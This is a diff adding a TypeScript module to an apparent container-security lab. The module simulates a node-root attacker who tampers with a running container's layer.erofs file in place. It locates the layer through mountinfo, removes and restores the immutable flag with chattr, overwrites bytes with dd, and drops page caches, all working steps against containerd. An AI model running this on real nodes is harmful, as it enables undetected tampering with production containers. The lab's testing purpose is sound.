@@ -1,0 +1,134 @@
+/**
+ * Attack: root on the node edits a layer.erofs file in place, so that a file
+ * inside a running container changes. On vanilla containerd 2.1 the change is
+ * visible once the page cache is dropped, and nothing notices (FACTS.md).
+ *
+ * The attacker behaves like a real one: if the layer file carries the
+ * immutable flag (set_immutable), it removes it with chattr, edits, and puts
+ * the flag back.
+ */
+import { createHash } from 'node:crypto';
+import { dirname } from 'node:path';
+import { LabError } from '../errors.ts';
+import type { RunningPod } from '../cri/index.ts';
+import type { StartedLabNode } from '../node/index.ts';
+import type { Attack } from '../spec/schemas.ts';
+
+export type AttackErrorCode = 'ATTACK_TARGET_NOT_FOUND' | 'ATTACK_PAYLOAD_TOO_LONG' | 'ATTACK_FAILED';
+
+export interface TamperEvidence {
+  layerFile: string;
+  offset: number;
+  layerSha256Before: string;
+  layerSha256After: string;
+  immutableFlagCleared: boolean;
+  contentBefore: string;
+  contentAfter: string;
+  containerMountinfo: string;
+}
+
+export interface TamperResult {
+  /** The container now reads the attacker's bytes. */
+  effect: boolean;
+  evidence: TamperEvidence;
+}
+
+/** Lowerdirs of the container's root overlay, top layer first, from its mountinfo. */
+export function rootLowerdirs(mountinfo: string): string[] {
+  for (const line of mountinfo.split('\n')) {
+    const [pre, post] = line.split(' - ');
+    if (!pre || !post) continue;
+    const fields = pre.split(' ');
+    if (fields[4] !== '/') continue;
+    const [fstype, , options = ''] = post.split(' ');
+    if (fstype !== 'overlay') continue;
+    const lower = options.split(',').find((o) => o.startsWith('lowerdir='));
+    if (lower) return lower.slice('lowerdir='.length).split(':');
+  }
+  return [];
+}
+
+function sha256(data: Buffer): string {
+  return createHash('sha256').update(data).digest('hex');
+}
+
+export async function tamperLayerFile(node: StartedLabNode, pod: RunningPod, attack: Attack): Promise<TamperResult> {
+  const container = pod.containers[0];
+  if (!container) throw new LabError<AttackErrorCode>('ATTACK_TARGET_NOT_FOUND', `pod ${pod.namespace}/${pod.name} has no container`);
+  const path = attack.spec.target.path;
+
+  const read = async () => {
+    const r = await node.cri.execSync(container.id, ['cat', path]);
+    if (r.exitCode !== 0) {
+      throw new LabError<AttackErrorCode>('ATTACK_TARGET_NOT_FOUND', `${path} is not readable in ${pod.namespace}/${pod.name}: ${r.stderr.toString().trim()}`);
+    }
+    return r.stdout;
+  };
+  const original = await read();
+  const payload = Buffer.from(attack.spec.payload, 'utf8');
+  if (payload.length > original.length) {
+    throw new LabError<AttackErrorCode>(
+      'ATTACK_PAYLOAD_TOO_LONG',
+      `attack "${attack.metadata.name}": the payload is ${payload.length} bytes but ${path} has ${original.length}; an in-place edit cannot grow the file`,
+    );
+  }
+  // Same length as the original: pad with spaces before the final newline.
+  const replacement = Buffer.alloc(original.length, ' '.charCodeAt(0));
+  payload.copy(replacement);
+
+  // The container's own mountinfo names the overlay lowerdirs; on the node,
+  // each lowerdir is snapshots/N/fs with the layer file at snapshots/N/layer.erofs.
+  const mountinfo = (await node.cri.execSync(container.id, ['cat', '/proc/self/mountinfo'])).stdout.toString();
+  const lowerdirs = rootLowerdirs(mountinfo);
+  let layerFile: string | undefined;
+  let offset = -1;
+  let before: Buffer | undefined;
+  for (const lower of lowerdirs) {
+    const candidate = `${dirname(lower)}/layer.erofs`;
+    const bytes = await node.readFile(candidate).catch(() => undefined);
+    if (!bytes) continue;
+    const at = bytes.indexOf(original);
+    if (at >= 0) {
+      if (bytes.indexOf(original, at + 1) >= 0) {
+        throw new LabError<AttackErrorCode>('ATTACK_TARGET_NOT_FOUND', `the content of ${path} occurs twice in ${candidate}; make it unique in the workload`);
+      }
+      layerFile = candidate;
+      offset = at;
+      before = bytes;
+      break;
+    }
+  }
+  if (!layerFile || !before) {
+    throw new LabError<AttackErrorCode>(
+      'ATTACK_TARGET_NOT_FOUND',
+      `the content of ${path} was not found in any layer.erofs of ${pod.namespace}/${pod.name} (lowerdirs: ${lowerdirs.join(', ') || 'none'})`,
+    );
+  }
+
+  const lsattr = (await node.exec.run(['lsattr', layerFile])).stdout.toString();
+  const immutable = /^\S*i\S*\s/.test(lsattr);
+  if (immutable) await node.run(['chattr', '-i', layerFile]);
+  try {
+    await node.run(['dd', `of=${layerFile}`, 'bs=1', `seek=${offset}`, 'conv=notrunc', 'status=none'], { input: replacement });
+  } finally {
+    if (immutable) await node.run(['chattr', '+i', layerFile]);
+  }
+  // EROFS serves reads from the page cache; the edit shows once it is dropped.
+  await node.run(['sh', '-c', 'sync && echo 3 > /proc/sys/vm/drop_caches']);
+
+  const after = await node.readFile(layerFile);
+  const seen = await read().catch((e: Error) => Buffer.from(`(unreadable: ${e.message})`));
+  return {
+    effect: seen.equals(replacement),
+    evidence: {
+      layerFile,
+      offset,
+      layerSha256Before: sha256(before),
+      layerSha256After: sha256(after),
+      immutableFlagCleared: immutable,
+      contentBefore: original.toString('utf8'),
+      contentAfter: seen.toString('utf8'),
+      containerMountinfo: mountinfo,
+    },
+  };
+}
